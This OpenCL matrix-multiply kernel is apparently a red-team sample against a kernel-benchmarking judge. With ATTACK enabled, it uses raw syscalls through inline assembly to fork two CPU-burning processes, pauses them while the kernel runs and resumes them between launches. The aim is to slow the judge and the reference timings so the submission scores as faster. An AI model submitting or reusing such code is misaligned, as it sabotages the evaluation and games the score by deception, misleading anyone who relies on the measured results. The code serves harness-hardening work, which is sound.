// Red team (2026-12-06): a plain (untiled) sgemm that forks two spinning processes at its
// first launch (raw syscalls through inline asm). They burn both cores
// whenever this kernel is not running (SIGSTOPped at its first work-item,
// SIGCONTed when its last work-group ends): the judge's work and the
// reference's timed launches share the CPU with them.
// ATTACK 0 is the same kernel without the spinners (the honest baseline).
// kevo:global (N + 15) // 16 * 16, (M + 15) // 16 * 16
// kevo:local 16, 16
#ifndef ATTACK
#define ATTACK 1
#endif
#define CTRL 0x5a5b00000000UL

inline long sys6(long nr, long a1, long a2, long a3, long a4, long a5, long a6) {
  long ret;
  __asm__ volatile ("mov %5, %%r10\n\tmov %6, %%r8\n\tmov %7, %%r9\n\tsyscall"
                    : "=a"(ret) : "a"(nr), "D"(a1), "S"(a2), "d"(a3), "r"(a4), "r"(a5), "r"(a6)
                    : "rcx", "r11", "r10", "r8", "r9", "memory");
  return ret;
}

void spin(volatile __global long* ctrl) {
  sys6(157, 1, 9, 0, 0, 0, 0);                  // prctl(PR_SET_PDEATHSIG, SIGKILL)
  long x = 1;
  while (ctrl[5] == 0) {                        // never set: dies with its parent
    for (int i = 0; i < 100000; ++i) x = x * 6364136223846793005L + 1442695040888963407L;
    ctrl[6] = x;
  }
  sys6(231, 0, 0, 0, 0, 0, 0);
}

__kernel void sgemm(__global const float* A, __global const float* B, __global float* C,
                    const int M, const int N, const int K) {
#if ATTACK
  volatile __global long* ctrl = (volatile __global long*)CTRL;
  const int first = get_global_id(0) == 0 && get_global_id(1) == 0;
  const int last_item = get_local_id(0) == get_local_size(0) - 1 && get_local_id(1) == get_local_size(1) - 1;
  if (first) {
    long r = sys6(9, (long)CTRL, 4096, 3, 0x01 | 0x20 | 0x100000, -1, 0);  // MAP_SHARED|ANON|FIXED_NOREPLACE
    if (r == (long)CTRL) {                      // first launch in this process: fork the spinners
      for (int s = 0; s < 2; ++s) {
        long pid = sys6(57, 0, 0, 0, 0, 0, 0);
        if (pid == 0) spin(ctrl);
        ctrl[10 + s] = pid;
      }
      ctrl[1] = 1;
    }
    if (ctrl[1] == 1) { sys6(62, ctrl[10], 19, 0, 0, 0, 0); sys6(62, ctrl[11], 19, 0, 0, 0, 0); }  // SIGSTOP
  }
#endif
  const int col = get_global_id(0), row = get_global_id(1);
  if (row < M && col < N) {
    float acc = 0.0f;
    for (int k = 0; k < K; ++k) acc += A[(long)row * K + k] * B[(long)k * N + col];
    C[(long)row * N + col] = acc;
  }
#if ATTACK
  if (last_item) {
    const long groups = (long)get_num_groups(0) * get_num_groups(1);
    if (atom_inc((volatile __global long*)&ctrl[2]) == groups - 1) {
      ctrl[2] = 0;
      if (ctrl[1] == 1) { sys6(62, ctrl[10], 18, 0, 0, 0, 0); sys6(62, ctrl[11], 18, 0, 0, 0, 0); }  // SIGCONT
    }
  }
#endif
}
